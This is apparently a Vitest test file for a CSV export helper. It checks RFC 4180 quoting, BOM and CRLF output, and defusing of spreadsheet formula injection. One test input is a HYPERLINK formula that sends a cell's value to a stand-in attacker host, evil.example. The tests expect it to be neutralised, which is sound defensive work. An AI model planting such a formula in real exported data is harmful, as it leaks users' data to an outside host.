import { describe, expect, it } from "vitest";
import { CSV_BOM, csvCell, toCsv } from "@/lib/domain/csv";

describe("csvCell: RFC 4180 quoting and formula neutralising", () => {
  it.each([
    ["plain", "plain"],
    ["", ""],
    [null, ""],
    [undefined, ""],
    [42, "42"],
    [12.5, "12.5"],
    [true, "true"],
    ["Zoë Ñúñez-Łukasiewicz", "Zoë Ñúñez-Łukasiewicz"], // accents and an inner dash untouched
    ["Gent, Belgium", '"Gent, Belgium"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    // Formula injection: a leading = + - @ TAB or CR becomes text.
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["=1+2", "'=1+2"],
    ["+31 6 1234", "'+31 6 1234"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tcmd", "'\tcmd"],
    ["\r=1", `"'\r=1"`],
    ["a=b", "a=b"], // only a leading sign is dangerous
    ["x@y.eu", "x@y.eu"],
  ])("%j → %j", (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });
});

describe("toCsv", () => {
  it("starts with a UTF-8 BOM and ends every record with CRLF", () => {
    const csv = toCsv([
      ["Name", "City"],
      ["Zoë", "Gent, BE"],
    ]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv).toBe(`${CSV_BOM}Name,City\r\nZoë,"Gent, BE"\r\n`);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it("writes an empty table as the BOM alone", () => {
    expect(toCsv([])).toBe(CSV_BOM);
  });
});
